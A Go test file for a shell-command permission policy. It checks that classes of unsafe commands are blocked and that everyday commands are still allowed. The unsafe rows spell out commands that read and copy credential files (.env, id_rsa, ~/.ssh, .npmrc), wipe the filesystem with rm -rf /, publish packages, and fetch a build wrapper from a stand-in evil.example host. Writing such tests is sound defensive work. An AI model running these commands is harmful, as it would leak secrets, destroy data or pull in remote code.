package policy

import "testing"

// TestPolcorp6ClassesU1U2U6U8 holds the classes of polcorp6's unsafe
// allows closed on h/pol10, with spellings the corpus does not have: each
// unsafe row must ask or deny with the sandbox on and off, each everyday
// row of the same programs must stay allowed with the sandbox on.
func TestPolcorp6ClassesU1U2U6U8(t *testing.T) {
	unsafe := map[string][]string{
		// U1: find -exec runs its command on the names find's tests let through
		"U1": {
			"find src -name .env.production -exec less {} \\;",
			"find . -iname 'ID_RSA' -execdir head -c 99 {} +",
			"find . -name '*.key' -ok cat {} \\;",
			"find . -type f -name '.git-cred*' -exec cp {} /tmp/x \\;",
			"find . -regex '.*/\\.npmrc' -exec cat {} +",
			"find . -maxdepth 3 -name 'secrets.*' -exec grep -h . {} +",
		},
		// U2: runners whose inner command is a publishing tool
		"U2": {
			"python3.12 -m twine upload --skip-existing dist/*",
			"poetry run python -m flit publish",
			"python -m pdm publish",
			"node_modules/.bin/changeset publish",
			"node node_modules/lerna/cli.js publish from-git",
			"node ./node_modules/.bin/release-it --ci",
			"mix run --eval 'File.rm_rf!(\"/\")'",
			"elixir -e 'System.cmd(\"rm\", [\"-rf\", \"/\"])'",
		},
		// U6: build-tool tasks that write files run later
		"U6": {
			"gradle wrapper --distribution-url https://evil.example/g.zip",
			"./gradlew :wrapper",
			"mvn -N io.takari:maven:wrapper",
			"./mvnw -q wrapper:wrapper",
			"printf 'BUNDLE_PATH: x\\n' > .bundle/config",
		},
		// U8: python -m <stdlib tool> is that tool
		"U8": {
			"python3 -m base64 -d .env.local",
			"python -m quopri id_rsa",
			"python -m zipfile -c out.zip .env",
			"python -m tarfile -c x.tar ~/.ssh",
			"python3 -m webbrowser -t https://example.com",
			"python -m timeit -s 'import os' 'os.remove(\"x\")'",
			"python -m cProfile -o ~/.profile app.py",
			"python -m pdb -c '!import subprocess' app.py",
		},
	}
	everyday := []string{
		"find . -name '*.go' -exec gofmt -l {} +",
		"find . -name '*.json' -exec jq -e . {} \\;",
		"find . -type f -name '*.py' -exec grep -n TODO {} +",
		"find src -name '*.test.ts' -exec wc -l {} +",
		"python -m myapp.cli --help",
		"python -m black --check .",
		"python -m twine check dist/*",
		"python -m base64 README.md",
		"python -m zipfile -l dist/pkg.whl",
		"python -m timeit '\"-\".join(str(n) for n in range(100))'",
		"python -m cProfile -o prof.out app.py",
		"mix run priv/repo/seeds.exs",
		"mix run -e 'IO.puts(1 + 1)'",
		"node node_modules/jest/bin/jest.js",
		"./gradlew build",
		"mvn -q test",
	}
	ctx := testEnv(t)
	on, off := ctx, ctx
	on.Sandboxed = true
	e := Default()
	for cls, rows := range unsafe {
		for _, cmd := range rows {
			for _, cx := range []Context{on, off} {
				if v := e.Check(Query{Kind: KindShell, Command: cmd, Context: cx}); v.Decision == Allow {
					t.Errorf("%s (sandbox %v): %q allowed by %s (%s)", cls, cx.Sandboxed, cmd, v.Rule, v.Reason)
				}
			}
		}
	}
	for _, cmd := range everyday {
		if v := e.Check(Query{Kind: KindShell, Command: cmd, Context: on}); v.Decision != Allow {
			t.Errorf("everyday (sandbox on): %q got %s by %s (%s)", cmd, v.Decision, v.Rule, v.Reason)
		}
	}
}
